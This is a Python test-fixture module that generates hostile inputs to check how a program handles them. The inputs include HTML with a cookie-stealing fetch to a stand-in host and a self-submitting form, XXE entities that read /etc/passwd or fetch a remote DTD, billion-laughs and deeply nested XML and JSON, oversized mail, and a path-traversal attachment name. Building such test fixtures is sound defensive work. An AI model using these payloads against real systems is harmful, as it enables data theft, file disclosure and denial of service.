"""Pages, drawings, XML, JSON, mail: texts that act, fetch, go deep or blow up.

Never here: PDF (`pdfs`), archives and programs (`archives`).
"""

from collections.abc import Iterator

from tests.hostile.value import HTML, MAIL, TEXT, UNKNOWN, Hostile


def web() -> Iterator[Hostile]:
    """Pages and drawings with scripts and things to fetch. Nothing of the program renders them."""
    start = b"<!DOCTYPE html><html><head><title>x</title></head><body>"
    for what, part in {
        "a script": b"<script>fetch('https://example.invalid/'+document.cookie)</script>",
        "a frame of a local file": b"<iframe src='file:///etc/passwd'></iframe>",
        "a picture to fetch": b"<img src='https://example.invalid/seen.png' onerror='alert(1)'>",
        "a local picture": b"<img src='/etc/hostname'><img src='file:///etc/hostname'>",
        "a style to fetch": b"<style>@import url(//example.invalid/a.css);</style>",
        "a new address": b"<meta http-equiv=refresh content='0;url=https://example.invalid/'>",
        "a form that sends itself": b"<form action=//example.invalid/><script>document.forms[0]"
        b".submit()</script></form>",
        "100,000 levels": b"<div>" * 100_000,
        "zero bytes": b"<p>a\0b</p>",
    }.items():
        media_type = UNKNOWN if what == "zero bytes" else HTML
        yield Hostile(f"HTML with {what}", "page.html", start + part, media_type)
    svg = b"<svg xmlns='http://www.w3.org/2000/svg' xmlns:l='http://www.w3.org/1999/xlink'>%s</svg>"
    for what, part in {
        "a script": b"<script>alert(1)</script>",
        "a page inside": b"<foreignObject><body onload='alert(1)'/></foreignObject>",
        "a picture to fetch": b"<image l:href='https://example.invalid/a.png'/>",
        "a local picture": b"<image l:href='file:///etc/hostname'/>",
        "itself inside": b"<g id='a'><use l:href='#a'/></g>",
        "a huge filter": b"<filter id='f'><feGaussianBlur stdDeviation='1e9'/></filter>",
    }.items():
        yield Hostile(f"SVG with {what}", "drawing.svg", svg % part, TEXT)
    yield Hostile(
        "SVG with an entity of a local file",
        "xxe.svg",
        _entities(b"<!ENTITY a SYSTEM 'file:///etc/hostname'>") + svg % b"<text>&a;</text>",
        TEXT,
    )
    yield Hostile("HTML as UTF-16", "wide.html", start.decode().encode("utf-16"), UNKNOWN)
    yield Hostile("a page saved under the name of a picture", "photo.jpg", start, HTML)


def nested() -> Iterator[Hostile]:
    """XML, JSON and mail that go deep or blow up."""
    laughs = b"".join(
        b"<!ENTITY a%d '%s'>" % (level, b"&a%d;" % (level - 1) * 10) for level in range(1, 10)
    )
    yield Hostile(
        "XML of a billion laughs",
        "lol.xml",
        _entities(b"<!ENTITY a0 'ha'>" + laughs) + b"<x>&a9;</x>",
        TEXT,
    )
    yield Hostile(
        "XML with an entity of a local file",
        "xxe.xml",
        _entities(b"<!ENTITY a SYSTEM 'file:///etc/passwd'>") + b"<x>&a;</x>",
        TEXT,
    )
    yield Hostile(
        "XML with an entity to fetch",
        "net.xml",
        _entities(b"<!ENTITY % a SYSTEM 'https://example.invalid/a.dtd'>%a;") + b"<x/>",
        TEXT,
    )
    yield Hostile("XML of 100,000 levels", "deep.xml", b"<a>" * 100_000, TEXT)
    yield Hostile("JSON of 100,000 levels", "deep.json", b"[" * 100_000, TEXT)
    yield Hostile("JSON with a number of 100,000 digits", "big.json", b"9" * 100_000, TEXT)
    yield Hostile("JSON with half a character", "half.json", b'{"a": "\\ud800"}', TEXT)
    yield Hostile(
        "JSON with one key a thousand times", "keys.json", b"{" + b'"a":1,' * 1000 + b'"a":1}', TEXT
    )
    head = b"From: a@example.invalid\r\nTo: b@example.invalid\r\nSubject: x\r\n"
    yield Hostile(
        "mail with a header of 1 MB",
        "big.eml",
        head + b"X-A: " + b"a" * (1 << 20) + b"\r\n\r\nx",
        MAIL,
    )
    yield Hostile(
        "mail of 50,000 headers", "many.eml", head + b"X-A: b\r\n" * 50_000 + b"\r\nx", MAIL
    )
    parts = b"".join(
        b"Content-Type: multipart/mixed; boundary=%d\r\n\r\n--%d\r\n" % (n, n) for n in range(2000)
    )
    yield Hostile("mail in mail 2,000 times", "deep.eml", head + parts, MAIL)
    yield Hostile(
        "mail with a name that climbs",
        "climb.eml",
        head + b'Content-Disposition: attachment; filename="../../../.bashrc"\r\n\r\nx',
        MAIL,
    )
    yield Hostile(
        "mail with bytes for letters", "bytes.eml", head + b"X: \xff\xfe\r\n\r\n\xff", MAIL
    )
    yield Hostile(
        "mailbox of one line",
        "inbox.mbox",
        b"From a@b Thu Jan  1 00:00:00 1970\n" + b">From " * 9999,
        "application/mbox",
    )


def _entities(entities: bytes) -> bytes:
    return b"<?xml version='1.0'?><!DOCTYPE x [" + entities + b"]>"
